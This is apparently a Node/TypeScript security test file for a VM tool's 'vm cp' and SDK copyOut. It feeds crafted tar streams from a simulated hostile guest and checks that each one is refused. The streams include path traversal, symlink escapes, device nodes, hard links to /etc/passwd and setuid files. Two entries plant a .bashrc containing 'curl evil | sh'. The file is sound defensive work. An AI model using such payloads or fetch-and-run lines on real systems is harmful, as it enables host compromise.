import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  lchownSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nullLogger } from '../../src/core/log.js';
import { RpcServer } from '../../src/rpc/server.js';
import { agentPool, connectUnix } from '../../src/vms/agent.js';
import { vmMethods } from '../../src/daemon/handlers/vms.js';
import type { VmService } from '../../src/vms/service.js';
import { currentUmask } from '../../src/transfer/extract.js';
import { Banger, BangerError, VmFiles } from '../../src/sdk/index.js';
import { HostileAgent, type HostileScript } from '../helpers/hostile-agent.js';
import { isRoot } from '../helpers/daemon.js';
import { makeTar, type TEntry } from '../helpers/oci.js';

/**
 * `vm cp VM:SRC HOSTDST` against a guest that lies (issue 19, item 1): the built CLI (and the
 * SDK's `files.copyOut`, which goes through the same src/transfer/ code), the
 * daemon's real vm.* handlers on an RpcServer and its real agent client, down to a hostile
 * protocol v2 agent (test/helpers/hostile-agent.ts) that answers a copy of /etc/hostname with
 * the tar each case chooses. Every case runs into an existing directory and into a missing
 * path, as root and as user `nobody` (reaching the socket through its group, like a member of
 * the `banger` group). After a refused stream nothing under the test's world may differ (no
 * planted file, no chmod of the destination, no write through a symlink, no temp directory),
 * and nothing may appear outside it (`/tmp/…` entry); an accepted stream changes only the
 * destination entry, with no setuid bit and no device.
 */
const BANGER = new URL('../../../bin/banger', import.meta.url).pathname;
const NOBODY = 65534;
const skip = isRoot() ? undefined : 'needs root (runs the CLI as root and as nobody)';
const ABS = `/tmp/banger-cp-hostile-${process.pid}`;
let dir = '';
let world = '';
let server: RpcServer | undefined;
let agent: HostileAgent | undefined;
let env: NodeJS.ProcessEnv = {};
const umask = currentUmask();

before(async () => {
  if (skip) return;
  dir = mkdtempSync(join(tmpdir(), 'banger-cp-hostile-'));
  chmodSync(dir, 0o711);
  const agentSock = join(dir, 'agent.sock');
  agent = await HostileAgent.listen(agentSock, {});
  const svc = {
    get: (name: string) => ({ name, id: `id-${name}`, vmm: 'qemu' }),
    resumeIfPaused: async () => undefined, // never paused here (vms/pause.ts)
    observe: async () => ({ running: true }),
    driver: () => ({ openAgentStream: () => connectUnix(agentSock) }),
    handle: (vm: { id: string; name: string }) => ({ id: vm.id, name: vm.name }),
  } as unknown as VmService;
  // the socket is root:<nobody's group> 0660, as bangerd's is root:banger
  server = new RpcServer({ socketPath: join(dir, 'run', 'd.sock'), log: nullLogger, methods: vmMethods(svc), gid: NOBODY });
  await server.listen();
  world = join(dir, 'world');
  for (const [who, uid] of [
    ['root', 0],
    ['nobody', NOBODY],
  ] as const) {
    mkdirSync(join(dir, `home-${who}`), { mode: 0o700 });
    lchownSync(join(dir, `home-${who}`), uid, uid);
  }
  env = { ...process.env, BANGER_SOCKET: join(dir, 'run', 'd.sock'), BANGER_ROOT: join(dir, 'root') };
});
after(async () => {
  agentPool.closeAll();
  await server?.close();
  await agent?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
  rmSync(ABS, { force: true, recursive: true });
});

type Who = 'root' | 'nobody';

function banger(who: Who, args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const argv =
    who === 'root'
      ? [process.execPath, BANGER, ...args]
      : ['setpriv', `--reuid=${NOBODY}`, `--regid=${NOBODY}`, '--clear-groups', process.execPath, BANGER, ...args];
  // the CLI's own HOME (its compile cache goes there) is outside the world the test watches
  const child = spawn(argv[0]!, argv.slice(1), { env: { ...env, HOME: join(dir, `home-${who}`) } });
  let out = '';
  let err = '';
  child.stdout.on('data', (b) => (out += b));
  child.stderr.on('data', (b) => (err += b));
  child.stdin.end();
  return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout: out, stderr: err })));
}

/**
 * The world: `home` (the existing destination, 0750, with dotfiles and two symlinks that point
 * outside it, one of them named like the source) and `outside` (what a write through a symlink
 * would reach). Owned by the user the CLI runs as.
 */
function makeWorld(who: Who): void {
  rmSync(world, { recursive: true, force: true });
  mkdirSync(join(world, 'home'), { recursive: true });
  mkdirSync(join(world, 'outside', 'dir'), { recursive: true });
  writeFileSync(join(world, 'outside', 'target'), 'outside file\n');
  writeFileSync(join(world, 'home', '.bashrc'), '# the user own .bashrc\n');
  writeFileSync(join(world, 'home', '.profile'), '# profile\n');
  symlinkSync('../outside/target', join(world, 'home', 'hostname'));
  symlinkSync('../outside/dir', join(world, 'home', 'link'));
  chmodSync(join(world, 'home'), 0o750);
  const uid = who === 'root' ? 0 : NOBODY;
  for (const p of walk(world)) lchownSync(p, uid, uid);
}

function walk(root: string): string[] {
  const out = [root];
  const st = lstatSync(root);
  if (st.isDirectory()) for (const n of readdirSync(root).sort()) out.push(...walk(join(root, n)));
  return out;
}

/** What a path is: type, mode (with setuid bits), owner, content or link target. Directory mtimes are left out. */
function snapshot(root: string): Map<string, string> {
  const m = new Map<string, string>();
  for (const p of walk(root)) {
    const s = lstatSync(p);
    const kind = s.isDirectory()
      ? 'dir'
      : s.isSymbolicLink()
        ? `symlink->${readlinkSync(p)}`
        : s.isFile()
          ? `file:${createHash('sha256').update(readFileSync(p)).digest('hex').slice(0, 16)}:${s.mtimeMs}`
          : `other:${s.mode.toString(8)}`;
    m.set(p.slice(root.length) || '/', `${kind} ${(s.mode & 0o7777).toString(8)} ${s.uid}:${s.gid}`);
  }
  return m;
}

function diff(a: Map<string, string>, b: Map<string, string>): string[] {
  const out: string[] = [];
  for (const [k, v] of a) if (b.get(k) !== v) out.push(`${k}: ${v} -> ${b.get(k) ?? '(gone)'}`);
  for (const [k, v] of b) if (!a.has(k)) out.push(`${k}: (new) ${v}`);
  return out;
}

const F = (path: string, data: string | Buffer = 'evil\n', more: Partial<TEntry> = {}): TEntry => ({ path, type: 'file', data, mode: 0o644, ...more });
const D = (path: string, more: Partial<TEntry> = {}): TEntry => ({ path, type: 'dir', mode: 0o755, ...more });

/** Streams the guest sends for a copy of /etc/hostname, each refused as a whole, and what the error must say. */
const REFUSED: Array<{ name: string; entries: TEntry[]; says: RegExp }> = [
  { name: ".bashrc beside SRC's name", entries: [F('hostname'), F('.bashrc', 'curl evil | sh\n')], says: /'\.bashrc'.*outside 'hostname'/ },
  { name: '. with mode 0777 (chmod of the destination)', entries: [D('.', { mode: 0o777 }), F('hostname')], says: /'\.'.*'\.' component/ },
  { name: './ prefix', entries: [D('./', { mode: 0o777 }), F('./hostname')], says: /'\.\/'.*'\.' component/ },
  {
    name: 'write through a symlink already in the destination (link/x)',
    entries: [F('hostname'), F('link/x', 'through\n')],
    says: /'link\/x'.*outside 'hostname'/,
  },
  {
    name: 'write through the symlink named like SRC, without its directory entry',
    entries: [F('hostname/x', 'through\n')],
    says: /'hostname\/x'.*parent directory 'hostname' did not come before it/,
  },
  {
    name: 'write through a symlink the stream made',
    entries: [D('hostname'), { path: 'hostname/l', type: 'symlink', linkpath: '../../outside/dir' }, F('hostname/l/x')],
    says: /'hostname\/l\/x'.*parent 'hostname\/l' is a symlink/,
  },
  {
    name: 'SRC itself a symlink, then a file under it',
    entries: [{ path: 'hostname', type: 'symlink', linkpath: '/tmp' }, F('hostname/x')],
    says: /parent 'hostname' is a symlink/,
  },
  { name: 'char device 1:1 as SRC', entries: [{ path: 'hostname', type: 'char', mode: 0o666, devmajor: 1, devminor: 1 }], says: /'hostname'.*char device 1:1/ },
  {
    name: 'char device 1:3 under SRC',
    entries: [D('hostname'), { path: 'hostname/null', type: 'char', mode: 0o666, devmajor: 1, devminor: 3 }],
    says: /char device 1:3/,
  },
  { name: 'block device', entries: [D('hostname'), { path: 'hostname/sda', type: 'block', devmajor: 8, devminor: 0 }], says: /block device 8:0/ },
  { name: 'FIFO', entries: [{ path: 'hostname', type: 'fifo', mode: 0o666 }], says: /'hostname'.*FIFO/ },
  {
    name: 'hard link to /etc/passwd',
    entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: '/etc/passwd' }],
    says: /'hostname\/pw'.*hard link target '\/etc\/passwd'.*absolute/,
  },
  {
    name: 'hard link out with ..',
    entries: [D('hostname'), { path: 'hostname/pw', type: 'link', linkpath: 'hostname/../../../etc/passwd' }],
    says: /'hostname\/pw'.*'\.\.' component/,
  },
  {
    name: 'hard link to a name outside the copy',
    entries: [F('hostname'), { path: 'hostname2', type: 'link', linkpath: '.bashrc' }],
    says: /'hostname2'.*outside 'hostname'/,
  },
  {
    name: 'hard link to a directory of the copy',
    entries: [D('hostname'), { path: 'hostname/d', type: 'link', linkpath: 'hostname' }],
    says: /is a directory/,
  },
  { name: '../x', entries: [F('hostname'), F('../x')], says: /'\.\.\/x'.*'\.\.' component/ },
  { name: 'hostname/../x', entries: [D('hostname'), F('hostname/../x')], says: /'\.\.' component/ },
  { name: `absolute ${ABS}`, entries: [F('hostname'), F(ABS)], says: /absolute path/ },
  { name: 'a name twice', entries: [F('hostname'), F('hostname', 'second\n')], says: /appears twice/ },
  {
    name: 'every kind in one stream',
    entries: [
      D('.', { mode: 0o777 }),
      F('.bashrc', 'curl evil | sh\n'),
      F('hostname', 'x', { mode: 0o4755, uid: 0 }),
      F('link/x'),
      { path: 'hostname2', type: 'char', devmajor: 1, devminor: 1, mode: 0o666 },
      { path: 'fifo', type: 'fifo' },
      { path: 'pw', type: 'link', linkpath: '/etc/passwd' },
      F('../x'),
      F(ABS),
    ],
    says: /'\.'/,
  },
];

/** A well-behaved tree: a read-only directory, 3 MiB (past the credit window), a hard link, symlinks in and out. */
const BIG = Buffer.alloc(3 << 20);
for (let i = 0; i < BIG.length; i += 4) BIG.writeUInt32LE((i * 2654435761) >>> 0, i);
const TREE: TEntry[] = [
  D('tree'),
  D('tree/ro', { mode: 0o555 }),
  F('tree/ro/f', 'read-only dir\n', { mode: 0o600, mtime: 1_000_000_000 }),
  F('tree/big', BIG),
  { path: 'tree/big2', type: 'link', linkpath: 'tree/big' },
  { path: 'tree/l', type: 'symlink', linkpath: 'ro/f' },
  { path: 'tree/abs', type: 'symlink', linkpath: '/etc/passwd' },
];

/** Where the copy goes: into the existing `home`, or to the missing `home/new`. */
const DESTS = [
  { name: 'into an existing directory', dst: () => join(world, 'home'), final: () => join(world, 'home', 'hostname') },
  { name: 'to a missing path', dst: () => join(world, 'home', 'new'), final: () => join(world, 'home', 'new') },
];

/** What a copy ended with: success, or the error's code and message. */
type Outcome = { ok: true } | { ok: false; code?: string; message: string };

/**
 * Runs every REFUSED stream through `copy` (the CLI or the SDK) for each destination and lists
 * every problem (not only the first): a copy that succeeded, an error that is not
 * E_UNSAFE_ENTRY saying why (after `prefix`), or any change to the world or outside it.
 */
async function refusedProblems(who: Who, dests: typeof DESTS, prefix: RegExp, copy: (dst: string) => Promise<Outcome>): Promise<string[]> {
  const problems: string[] = [];
  let n = 0;
  for (const c of REFUSED) {
    for (const d of dests) {
      makeWorld(who);
      const before = snapshot(world);
      agent!.script = { stat: () => ({ exists: true, type: 'file', mode: 0o644, size: 5 }), tarOut: () => ({ tar: makeTar(c.entries) }) };
      const r = await copy(d.dst());
      const bad = (m: string) => problems.push(`${c.name}, ${d.name}, as ${who}: ${m}`);
      if (r.ok) bad('the copy succeeded');
      else if (r.code !== 'E_UNSAFE_ENTRY' || !c.says.test(r.message) || !prefix.test(r.message))
        bad(`the error is not E_UNSAFE_ENTRY saying ${c.says}: ${r.code} ${r.message}`);
      for (const l of diff(before, snapshot(world))) bad(`changed ${l}`);
      if (existsSync(ABS)) bad(`${ABS} was written`);
      if (existsSync(join(dir, 'x')) || existsSync(join(world, 'x'))) bad('../x was written');
      rmSync(ABS, { force: true, recursive: true });
      rmSync(join(world, 'x'), { force: true, recursive: true });
      n++;
    }
  }
  assert.equal(n, REFUSED.length * dests.length);
  return problems;
}

/** The SDK's `files.copyOut` (src/sdk/copy.ts), in this process, as root, on VM `evil`. */
async function sdkCopyOut(guestPath: string, hostPath: string, signal?: AbortSignal): Promise<Outcome> {
  const b = await Banger.connect({ socket: env.BANGER_SOCKET, autostart: false });
  try {
    await new VmFiles(b.rpc, 'evil').copyOut(guestPath, hostPath, { signal });
    return { ok: true };
  } catch (e) {
    return { ok: false, code: e instanceof BangerError ? e.code : undefined, message: e instanceof Error ? e.message : String(e) };
  } finally {
    b.close();
  }
}

test('SDK files.copyOut out of a hostile guest (the same streams as vm cp): every refused stream leaves the world as it was', { skip }, async () => {
  // the SDK copies to exactly the path given, which must not exist: only the missing path applies
  const problems = await refusedProblems('root', [DESTS[1]!], /^evil:\/etc\/hostname: refused entry/, (dst) => sdkCopyOut('/etc/hostname', dst));
  assert.deepEqual(problems, []);
});

test('SDK files.copyOut: setuid dropped, umask applied, a tree with a read-only directory, hard link and 3 MiB lands whole; an existing destination, a failing guest tar, a cut stream or an abort leave nothing', {
  skip,
}, async () => {
  makeWorld('root');
  agent!.script = {
    stat: () => ({ exists: true, type: 'file' }),
    tarOut: () => ({ tar: makeTar([F('hostname', 'guest-name\n', { mode: 0o6777, uid: 1234, gid: 2345 })]) }),
  };
  // the symlink named like SRC is there: refused as existing, not followed
  const before = snapshot(world);
  const exists = await sdkCopyOut('/etc/hostname', join(world, 'home', 'hostname'));
  assert.equal(exists.ok ? 'ok' : exists.code, 'E_EXISTS');
  assert.deepEqual(diff(before, snapshot(world)), []);
  assert.deepEqual(await sdkCopyOut('/etc/hostname', join(world, 'home', 'new')), { ok: true });
  const st = lstatSync(join(world, 'home', 'new'));
  assert.deepEqual([st.isFile(), st.mode & 0o7777, st.uid, st.gid], [true, 0o777 & ~umask, 0, 0]);
  assert.equal(readFileSync(join(world, 'home', 'new'), 'utf8'), 'guest-name\n');

  const big = BIG;
  const tar = makeTar(TREE);
  agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar }) };
  const dst = join(world, 'home', 'copy');
  assert.deepEqual(await sdkCopyOut('/srv/tree', dst), { ok: true });
  assert.ok(readFileSync(join(dst, 'big')).equals(big));
  assert.equal(lstatSync(join(dst, 'big')).ino, lstatSync(join(dst, 'big2')).ino, 'hard link kept');
  assert.equal(readlinkSync(join(dst, 'l')), 'ro/f');
  assert.equal(lstatSync(join(dst, 'ro')).mode & 0o777, 0o555 & ~umask);
  assert.equal(lstatSync(join(dst, 'ro', 'f')).mtimeMs, 1_000_000_000_000);

  const after = snapshot(world);
  const failed = join(world, 'home', 'failed');
  agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar, exit: 2 }) };
  const f = await sdkCopyOut('/srv/tree', failed);
  assert.ok(!f.ok && f.code === 'E_EXEC' && /tar in the guest failed \(exit 2\)/.test(f.message), JSON.stringify(f));
  for (const [bad, says] of [
    [tar.subarray(0, 1 << 20), /truncated/],
    [Buffer.alloc(4096, 0x41), /checksum|not a tar/],
  ] as const) {
    agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar: bad }) };
    const t = await sdkCopyOut('/srv/tree', failed);
    assert.ok(!t.ok && says.test(t.message), JSON.stringify(t));
  }
  // an abort while the guest stalls mid-stream: E_CANCELLED, the agent told to stop
  agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar: tar.subarray(0, 50_000), hang: true }) };
  const closedBefore = agent!.closed.length;
  const ac = new AbortController();
  const stalled = sdkCopyOut('/srv/tree', failed, ac.signal);
  while (!readdirSync(join(world, 'home')).some((n) => n.startsWith('.banger-cp-'))) await new Promise((r) => setTimeout(r, 20));
  ac.abort();
  const a = await stalled;
  assert.ok(!a.ok && a.code === 'E_CANCELLED', JSON.stringify(a));
  assert.deepEqual(diff(after, snapshot(world)), [], 'no temp directory and nothing else left');
  while (agent!.closed.length === closedBefore) await new Promise((r) => setTimeout(r, 20));
});

for (const who of ['root', 'nobody'] as const) {
  test(`vm cp out of a hostile guest as ${who}: every refused stream leaves the world as it was`, { skip }, async () => {
    const problems = await refusedProblems(who, DESTS, /^vm cp: evil:\/etc\/hostname: refused entry/, async (dst) => {
      const r = await banger(who, ['--json', 'vm', 'cp', 'evil:/etc/hostname', dst]);
      if (r.code === 0) return { ok: true };
      try {
        const e = (JSON.parse(r.stdout) as { error?: { code: string; message: string } }).error;
        return { ok: false, code: e?.code, message: e?.message ?? '' };
      } catch {
        return { ok: false, message: `${r.stdout.trim()} ${r.stderr.trim()}` };
      }
    });
    assert.deepEqual(problems, []);
  });

  test(`vm cp out of a hostile guest as ${who}: a setuid-root file is copied without setuid, the destination keeps its mode, symlinks there are replaced, not followed`, {
    skip,
  }, async () => {
    for (const d of DESTS) {
      makeWorld(who);
      const before = snapshot(world);
      agent!.script = {
        stat: () => ({ exists: true, type: 'file' }),
        tarOut: () => ({ tar: makeTar([F('hostname', 'guest-name\n', { mode: 0o6777, uid: 0, gid: 0 })]) }),
      };
      const r = await banger(who, ['vm', 'cp', 'evil:/etc/hostname', d.dst()]);
      assert.equal(r.code, 0, r.stderr);
      const st = lstatSync(d.final());
      assert.ok(st.isFile(), 'a regular file, not a write through the symlink that was there');
      assert.equal(st.mode & 0o7777, 0o777 & ~umask, 'setuid/setgid/sticky dropped, umask applied');
      assert.equal(st.uid, who === 'root' ? 0 : NOBODY);
      assert.equal(readFileSync(d.final(), 'utf8'), 'guest-name\n');
      const changed = diff(before, snapshot(world)).map((l) => l.split(':')[0]);
      assert.deepEqual(changed, [d.final().slice(world.length)], 'only the destination entry changed');
      assert.equal(readFileSync(join(world, 'outside', 'target'), 'utf8'), 'outside file\n');
      assert.equal(statSync(join(world, 'home')).mode & 0o7777, 0o750);
    }
    // a directory over the symlink named like it: the symlink is replaced, its target stays empty
    makeWorld(who);
    agent!.script = {
      stat: () => ({ exists: true, type: 'dir' }),
      tarOut: () => ({ tar: makeTar([D('hostname', { mode: 0o3777 }), F('hostname/x', 'in\n', { mode: 0o4755 })]) }),
    };
    const r = await banger(who, ['vm', 'cp', 'evil:/etc/hostname', join(world, 'home')]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(lstatSync(join(world, 'home', 'hostname')).isDirectory());
    assert.equal(lstatSync(join(world, 'home', 'hostname')).mode & 0o7777, 0o777 & ~umask);
    assert.equal(lstatSync(join(world, 'home', 'hostname', 'x')).mode & 0o7777, 0o755 & ~umask);
    assert.deepEqual(readdirSync(join(world, 'outside', 'dir')), []);
    assert.deepEqual(
      readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')),
      [],
    );
  });
}

test('vm cp out: -a restores owners and exact modes as root (setuid still dropped); as nobody it is refused politely and owners are not restored', {
  skip,
}, async () => {
  const tar = makeTar([
    D('hostname', { mode: 0o775, uid: 1234, gid: 2345 }),
    F('hostname/f', 'f\n', { mode: 0o4777, uid: 1234, gid: 2345 }),
    { path: 'hostname/l', type: 'symlink', linkpath: 'f', uid: 1234, gid: 2345 },
  ]);
  agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar }) };
  makeWorld('root');
  const r = await banger('root', ['vm', 'cp', '-a', 'evil:/etc/hostname', join(world, 'home', 'a')]);
  assert.equal(r.code, 0, r.stderr);
  const own = (p: string) => {
    const s = lstatSync(join(world, 'home', 'a', p));
    return [s.mode & 0o7777, s.uid, s.gid];
  };
  assert.deepEqual(own(''), [0o775, 1234, 2345]);
  assert.deepEqual(own('f'), [0o777, 1234, 2345]);
  assert.deepEqual(own('l').slice(1), [1234, 2345]);
  // without -a, root owns the copy and the umask applies
  const r2 = await banger('root', ['vm', 'cp', 'evil:/etc/hostname', join(world, 'home', 'b')]);
  assert.equal(r2.code, 0, r2.stderr);
  const s = lstatSync(join(world, 'home', 'b', 'f'));
  assert.deepEqual([s.mode & 0o7777, s.uid, s.gid], [0o777 & ~umask, 0, 0]);
  makeWorld('nobody');
  const r3 = await banger('nobody', ['vm', 'cp', '-a', 'evil:/etc/hostname', join(world, 'home', 'a')]);
  assert.equal(r3.code, 0, r3.stderr);
  assert.match(r3.stderr, /not running as root.*owners are not restored/);
  const s3 = lstatSync(join(world, 'home', 'a', 'f'));
  assert.deepEqual([s3.mode & 0o7777, s3.uid], [0o777 & ~umask, NOBODY]);
});

test('vm cp out: a well-behaved tree (read-only directory, hard link, symlink, 3 MiB through the credit window) lands whole; a second copy merges; a failing guest tar or a cut stream leaves nothing', {
  skip,
}, async () => {
  const big = BIG;
  const tar = makeTar(TREE);
  for (const who of ['root', 'nobody'] as const) {
    makeWorld(who);
    agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar }) };
    const dst = join(world, 'home', 'copy');
    const r = await banger(who, ['vm', 'cp', 'evil:/srv/tree', dst]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(readFileSync(join(dst, 'big')).equals(big));
    assert.equal(lstatSync(join(dst, 'big')).ino, lstatSync(join(dst, 'big2')).ino, 'hard link kept');
    assert.equal(readlinkSync(join(dst, 'l')), 'ro/f');
    assert.equal(readlinkSync(join(dst, 'abs')), '/etc/passwd', 'a symlink is copied as a symlink, whatever it points to');
    assert.equal(lstatSync(join(dst, 'ro')).mode & 0o777, 0o555 & ~umask);
    assert.equal(lstatSync(join(dst, 'ro', 'f')).mtimeMs, 1_000_000_000_000);
    assert.equal(lstatSync(join(dst, 'ro', 'f')).uid, who === 'root' ? 0 : NOBODY);
    // again: `copy` exists now, so the tree lands inside it as `copy/tree`
    chmodSync(dst, 0o700);
    const r2 = await banger(who, ['vm', 'cp', 'evil:/srv/tree', dst]);
    assert.equal(r2.code, 0, r2.stderr);
    assert.ok(readFileSync(join(dst, 'tree', 'big')).equals(big));
    // and a third time: `copy/tree` exists, so it is merged into; its mode stays
    chmodSync(join(dst, 'tree'), 0o701);
    writeFileSync(join(dst, 'tree', 'mine'), 'kept\n');
    if (who === 'nobody') {
      // `copy/tree/ro` is read-only (0555) for its owner: checked before anything moves
      const pre = snapshot(world);
      const ro = await banger(who, ['vm', 'cp', 'evil:/srv/tree', dst]);
      assert.notEqual(ro.code, 0);
      assert.match(ro.stderr, /cannot write into .*tree\/ro \(EACCES\); nothing was copied/);
      assert.deepEqual(diff(pre, snapshot(world)), []);
      chmodSync(join(dst, 'tree', 'ro'), 0o755);
    }
    const r3 = await banger(who, ['vm', 'cp', 'evil:/srv/tree', dst]);
    assert.equal(r3.code, 0, r3.stderr);
    assert.equal(lstatSync(join(dst, 'tree')).mode & 0o777, 0o701);
    assert.equal(readFileSync(join(dst, 'tree', 'mine'), 'utf8'), 'kept\n');
    assert.equal(readFileSync(join(dst, 'tree', 'ro', 'f'), 'utf8'), 'read-only dir\n');
    assert.deepEqual(
      readdirSync(dst).filter((n) => n.startsWith('.banger-cp-')),
      [],
    );
    assert.deepEqual(
      readdirSync(join(world, 'home')).filter((n) => n.startsWith('.banger-cp-')),
      [],
    );

    // tar in the guest fails after sending a good stream: nothing is copied
    const before = snapshot(world);
    agent!.script = {
      stat: () => ({ exists: true, type: 'dir' }),
      tarOut: () => ({ tar, exit: 2, stderr: 'tar: something vanished\x1b]0;owned\x07\x1b[2J\n' }),
    };
    const f = await banger(who, ['vm', 'cp', 'evil:/srv/tree', join(world, 'home', 'failed')]);
    assert.notEqual(f.code, 0);
    assert.match(f.stderr, /tar in the guest failed \(exit 2\)/);
    assert.match(f.stderr, /something vanished\?\]0;owned\?\?\[2J/, "the guest's stderr is shown without terminal control sequences");
    // a stream cut in the middle of the big file, and one that is not tar at all
    for (const [bad, says] of [
      [tar.subarray(0, 1 << 20), /truncated/],
      [Buffer.alloc(4096, 0x41), /checksum|not a tar/],
    ] as const) {
      agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar: bad }) };
      const t = await banger(who, ['vm', 'cp', 'evil:/srv/tree', join(world, 'home', 'failed')]);
      assert.notEqual(t.code, 0);
      assert.match(t.stderr, says, t.stderr);
    }
    assert.deepEqual(diff(before, snapshot(world)), []);
  }
});

test('vm cp out: Ctrl-C while the guest stalls mid-stream ends the copy, tells the agent to stop, and leaves no temp directory', { skip }, async () => {
  makeWorld('root');
  const before = snapshot(world);
  const tar = makeTar([D('tree'), F('tree/a', Buffer.alloc(100_000, 1))]);
  agent!.script = { stat: () => ({ exists: true, type: 'dir' }), tarOut: () => ({ tar: tar.subarray(0, 50_000), hang: true }) };
  const closedBefore = agent!.closed.length;
  const child = spawn(process.execPath, [BANGER, 'vm', 'cp', 'evil:/srv/tree', join(world, 'home', 'stalled')], { env });
  let err = '';
  child.stderr.on('data', (b) => (err += b));
  const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
  // the private directory appears once the stream has started
  const home = join(world, 'home');
  while (!readdirSync(home).some((n) => n.startsWith('.banger-cp-'))) await new Promise((r) => setTimeout(r, 20));
  child.kill('SIGINT');
  const code = await exited;
  assert.notEqual(code, 0);
  assert.match(err, /cancelled; nothing was copied/);
  assert.deepEqual(diff(before, snapshot(world)), []);
  while (agent!.closed.length === closedBefore) await new Promise((r) => setTimeout(r, 20));
});
